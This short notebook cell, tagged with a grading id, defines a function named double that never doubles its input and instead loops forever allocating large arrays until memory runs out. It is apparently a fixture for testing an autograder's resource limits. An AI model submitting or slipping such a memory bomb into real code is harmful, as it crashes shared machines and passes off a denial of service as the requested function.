# %% grade_id="double"
def double(x):
    import numpy as np

    kept = []
    while True:
        kept.append(np.zeros(4_000_000))
        kept.append([0] * 1_000_000)
